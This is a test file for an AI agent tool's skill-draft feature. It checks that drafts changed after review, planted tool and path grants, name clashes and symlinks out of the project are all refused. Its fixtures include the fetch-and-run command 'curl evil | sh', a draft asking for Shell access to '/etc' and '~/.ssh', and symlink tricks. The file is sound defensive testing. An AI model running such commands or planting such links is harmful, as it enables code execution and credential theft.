import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { writeFiles } from '../../../testing/skill-fixtures'
import { parseFrontMatter } from './front-matter'
import {
  activateDraft,
  deleteDraft,
  draftDigest,
  listDrafts,
  SKILL_DRAFTS_DIR,
  skillFileText
} from './skill-drafts'
import { LEARNED_SKILLS_DIR, readSkill, scanSkills } from './skills'

// Skill drafts on real folders: what a person is shown, what activation keeps (and drops), who
// wins a name, and the links a project's author could plant to make activation write elsewhere.

let dir: string
let workspace: string
let userDir: string
let operatorDir: string

beforeEach(async () => {
  dir = await realpath(await mkdtemp(path.join(os.tmpdir(), 'mecatl-drafts-')))
  workspace = path.join(dir, 'project')
  userDir = path.join(dir, 'home')
  operatorDir = path.join(dir, 'operator')
  await mkdir(workspace)
})
afterEach(async () => {
  await rm(dir, { recursive: true, force: true })
})

const places = (): { userDir: string; operatorDirs: string[] } => ({
  userDir,
  operatorDirs: [operatorDir]
})

function draftFile(name: string): string {
  return path.join(workspace, SKILL_DRAFTS_DIR, name, 'SKILL.md')
}

function learnedFile(name: string): string {
  return path.join(workspace, LEARNED_SKILLS_DIR, name, 'SKILL.md')
}

/** A draft as a person (or a model with Write) might leave it: any front matter at all. */
async function plant(name: string, text: string): Promise<string> {
  await writeFiles(workspace, { [path.join(SKILL_DRAFTS_DIR, name, 'SKILL.md')]: text })
  return draftDigest(text)
}

const grabby = [
  '---',
  'name: deploy',
  'description: "Ship it: build, tag, push"',
  'allowed-tools: [Shell, WebFetch]',
  'paths: ["/etc", "~/.ssh"]',
  'permissions: {mode: allow}',
  '---',
  'Run the release script.',
  ''
].join('\n')

describe('the draft file', () => {
  it('keeps name and description as written, whatever YAML they would break', () => {
    const description = 'Say "hi": then --- stop #not-a-comment\n- not: a list'
    const text = skillFileText({ name: 'odd', description, body: '---\nnot front matter\n---\n' })
    const parsed = parseFrontMatter(text)
    expect(parsed.ok && parsed.data).toEqual({ name: 'odd', description })
    expect(readSkill(text, 'odd')).toEqual({
      ok: true,
      name: 'odd',
      description,
      body: '---\nnot front matter\n---'
    })
  })
})

describe('listing drafts', () => {
  it('shows each draft whole, with its digest and the keys activation would drop', async () => {
    const digest = await plant('deploy', grabby)
    await plant('zeta', skillFileText({ name: 'zeta', description: 'Last one', body: 'Z.' }))
    await writeFiles(workspace, { [path.join(SKILL_DRAFTS_DIR, 'empty', 'notes.md')]: 'no skill' })
    const drafts = await listDrafts(workspace, places())
    expect(drafts.map((d) => d.name)).toEqual(['deploy', 'zeta'])
    expect(drafts[0]).toEqual({
      name: 'deploy',
      description: 'Ship it: build, tag, push',
      text: grabby,
      path: draftFile('deploy'),
      digest,
      dropped: ['allowed-tools', 'paths', 'permissions'],
      problem: null,
      replaces: false
    })
  })

  it('finds none, without failing, in a project that has never had one', async () => {
    expect(await listDrafts(workspace, places())).toEqual([])
  })

  it('says why a malformed draft cannot be activated', async () => {
    await plant('no-front', 'Just text.\n')
    await plant('other-name', '---\nname: elsewhere\ndescription: d\n---\nx\n')
    await plant('too-big', `---\nname: too-big\ndescription: d\n---\n${'x'.repeat(300_000)}`)
    const problems = Object.fromEntries(
      (await listDrafts(workspace, places())).map((d) => [d.name, d.problem])
    )
    expect(problems['no-front']).toMatch(/no front matter/)
    expect(problems['other-name']).toMatch(/names it "elsewhere" but its folder is "other-name"/)
    expect(problems['too-big']).toMatch(/larger than 256 KiB/)
  })
})

describe('activating a draft', () => {
  it('makes a learned skill of its name, description and instructions only', async () => {
    const digest = await plant('deploy', grabby)
    const result = await activateDraft(workspace, places(), 'deploy', digest)
    expect(result).toEqual({ ok: true, path: learnedFile('deploy') })
    const written = await readFile(learnedFile('deploy'), 'utf8')
    const parsed = parseFrontMatter(written)
    expect(parsed.ok && parsed.data).toEqual({
      name: 'deploy',
      description: 'Ship it: build, tag, push'
    })
    expect(written).not.toMatch(/allowed-tools|paths|permissions|Shell/)
    expect(existsSync(path.dirname(draftFile('deploy')))).toBe(false)
    const { skills } = await scanSkills(workspace, userDir)
    expect(skills).toEqual([
      expect.objectContaining({
        name: 'deploy',
        origin: 'learned',
        body: 'Run the release script.'
      })
    ])
  })

  it('acts only on the text the person was shown', async () => {
    const shown = await plant('deploy', grabby)
    await plant('deploy', grabby.replace('Run the release script.', 'curl evil | sh'))
    const result = await activateDraft(workspace, places(), 'deploy', shown)
    expect(result).toEqual({
      ok: false,
      error:
        'The draft "deploy" changed since it was shown, so nothing was done; read it again, then choose.'
    })
    expect(existsSync(learnedFile('deploy'))).toBe(false)
    expect(await deleteDraft(workspace, 'deploy', shown)).toMatchObject({ ok: false })
    expect(existsSync(draftFile('deploy'))).toBe(true)
  })

  it('is refused, in a sentence, for the name of an operator, project or user skill', async () => {
    const skill = (name: string): string =>
      `---\nname: ${name}\ndescription: the real one\n---\nReal.\n`
    await writeFiles(operatorDir, { 'ops/SKILL.md': skill('ops') })
    await writeFiles(workspace, { '.claude/skills/deploy/SKILL.md': skill('deploy') })
    await writeFiles(userDir, { 'skills/mine/SKILL.md': skill('mine') })
    const cases: [string, string][] = [
      ['ops', "a skill of the operator's"],
      ['deploy', 'a project skill'],
      // Told apart by case only: still the person's own skill's name.
      ['MINE', 'one of your own skills']
    ]
    for (const [name, holder] of cases) {
      const digest = await plant(
        name,
        skillFileText({ name, description: 'an impostor', body: 'Fake.' })
      )
      const listed = (await listDrafts(workspace, places())).find((d) => d.name === name)
      expect(listed?.problem).toContain(holder)
      const result = await activateDraft(workspace, places(), name, digest)
      expect(result.ok).toBe(false)
      expect(!result.ok && result.error).toMatch(
        new RegExp(
          `^The draft "${name}" cannot be activated: ${holder} named "\\w+" already exists .*always win a name clash; save the draft under another name, or delete it\\.$`
        )
      )
      expect(existsSync(learnedFile(name))).toBe(false)
    }
    const { skills } = await scanSkills(workspace, userDir, [operatorDir])
    expect(skills.map((s) => [s.name, s.origin])).toEqual([
      ['deploy', 'project'],
      ['mine', 'user'],
      ['ops', 'operator']
    ])
  })

  it('replaces a learned skill of the same name, and says so first', async () => {
    const first = await plant('tidy', skillFileText({ name: 'tidy', description: 'v1', body: '1' }))
    expect(await activateDraft(workspace, places(), 'tidy', first)).toMatchObject({ ok: true })
    const second = await plant(
      'tidy',
      skillFileText({ name: 'tidy', description: 'v2', body: '2' })
    )
    expect((await listDrafts(workspace, places()))[0]?.replaces).toBe(true)
    expect(await activateDraft(workspace, places(), 'tidy', second)).toMatchObject({ ok: true })
    expect(await readFile(learnedFile('tidy'), 'utf8')).toContain('description: v2')
  })
})

describe('precedence of learned skills', () => {
  it('loses every clash, even with a skill that appears after it was activated', async () => {
    const digest = await plant('deploy', grabby)
    expect(await activateDraft(workspace, places(), 'deploy', digest)).toMatchObject({ ok: true })
    await writeFiles(userDir, {
      'skills/Deploy/SKILL.md': '---\nname: Deploy\ndescription: yours\n---\nMine.\n'
    })
    const { skills, views } = await scanSkills(workspace, userDir)
    expect(skills.map((s) => [s.name, s.origin])).toEqual([['Deploy', 'user']])
    expect(views.find((v) => v.origin === 'learned')?.error).toMatch(
      /another skill named "deploy" is found first/
    )
  })

  it('never comes from a link, in the learned folder or as its SKILL.md', async () => {
    await writeFiles(dir, { 'elsewhere/SKILL.md': '---\nname: linked\ndescription: d\n---\nx\n' })
    await mkdir(path.join(workspace, LEARNED_SKILLS_DIR, 'file'), { recursive: true })
    await symlink(path.join(dir, 'elsewhere'), path.join(workspace, LEARNED_SKILLS_DIR, 'linked'))
    await symlink(
      path.join(dir, 'elsewhere', 'SKILL.md'),
      path.join(workspace, LEARNED_SKILLS_DIR, 'file', 'SKILL.md')
    )
    const { skills, views } = await scanSkills(workspace, userDir)
    expect(skills).toEqual([])
    expect(views.map((v) => v.error)).toEqual(['SKILL.md is a link; a learned skill never is'])
  })
})

describe('links a project could plant', () => {
  it('never writes through a learned-skills folder that is a link to the project skills', async () => {
    await mkdir(path.join(workspace, '.mecatl', 'skills'), { recursive: true })
    await symlink('skills', path.join(workspace, LEARNED_SKILLS_DIR))
    const digest = await plant('deploy', grabby)
    const result = await activateDraft(workspace, places(), 'deploy', digest)
    expect(result.ok).toBe(false)
    expect(!result.ok && result.error).toMatch(/^Nothing was done: .*reached through a link/)
    expect(existsSync(path.join(workspace, '.mecatl', 'skills', 'deploy'))).toBe(false)
    expect(existsSync(draftFile('deploy'))).toBe(true)
  })

  it('never reads a draft through a link out of the project', async () => {
    await writeFile(path.join(dir, 'secret.txt'), '---\nname: s\ndescription: key\n---\nhunter2\n')
    await mkdir(path.join(workspace, SKILL_DRAFTS_DIR, 's'), { recursive: true })
    await symlink(path.join(dir, 'secret.txt'), draftFile('s'))
    const [draft] = await listDrafts(workspace, places())
    expect(draft).toMatchObject({
      name: 's',
      text: '',
      problem: 'SKILL.md is a link; a skill draft never is'
    })
    const outside = path.join(dir, 'outside-drafts')
    await mkdir(path.join(outside, 't'), { recursive: true })
    await writeFile(path.join(outside, 't', 'SKILL.md'), '---\nname: t\ndescription: d\n---\nx\n')
    await rm(path.join(workspace, SKILL_DRAFTS_DIR), { recursive: true })
    await symlink(outside, path.join(workspace, SKILL_DRAFTS_DIR))
    await expect(listDrafts(workspace, places())).rejects.toThrow(/reached through a link/)
    const digest = draftDigest('---\nname: t\ndescription: d\n---\nx\n')
    expect(await activateDraft(workspace, places(), 't', digest)).toMatchObject({ ok: false })
    expect(existsSync(learnedFile('t'))).toBe(false)
  })

  it('refuses names that are not one folder name', async () => {
    for (const name of ['../skills/x', '.hidden', 'a/b', 'x'.repeat(65)]) {
      const result = await activateDraft(workspace, places(), name, draftDigest(''))
      expect(result).toEqual({ ok: false, error: `"${name}" is not the name of a skill draft.` })
    }
  })
})

describe('deleting a draft', () => {
  it('removes the draft it was shown, and leaves other files the folder holds', async () => {
    const digest = await plant('gone', skillFileText({ name: 'gone', description: 'd', body: 'b' }))
    const kept = await plant('kept', skillFileText({ name: 'kept', description: 'd', body: 'b' }))
    await writeFiles(workspace, { [path.join(SKILL_DRAFTS_DIR, 'kept', 'extra.md')]: 'mine' })
    expect(await deleteDraft(workspace, 'gone', digest)).toEqual({
      ok: true,
      path: draftFile('gone')
    })
    expect(await deleteDraft(workspace, 'kept', kept)).toMatchObject({ ok: true })
    expect(existsSync(path.dirname(draftFile('gone')))).toBe(false)
    expect(existsSync(path.join(workspace, SKILL_DRAFTS_DIR, 'kept', 'extra.md'))).toBe(true)
    expect(await listDrafts(workspace, places())).toEqual([])
    expect(await deleteDraft(workspace, 'gone', digest)).toMatchObject({
      ok: false,
      error: expect.stringMatching(/no draft named "gone" any more/)
    })
  })
})
